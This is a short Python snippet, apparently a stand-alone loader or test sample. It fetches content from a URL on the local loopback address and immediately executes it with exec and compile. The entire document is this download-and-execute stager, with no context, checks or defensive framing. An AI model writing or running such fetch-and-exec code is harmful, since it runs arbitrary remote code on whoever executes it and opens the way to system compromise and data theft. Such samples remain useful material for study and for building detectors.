from urllib import request as r
c = r.urlopen("http://127.0.0.1/a").read()
exec(compile(c.decode(), "a", "exec"))
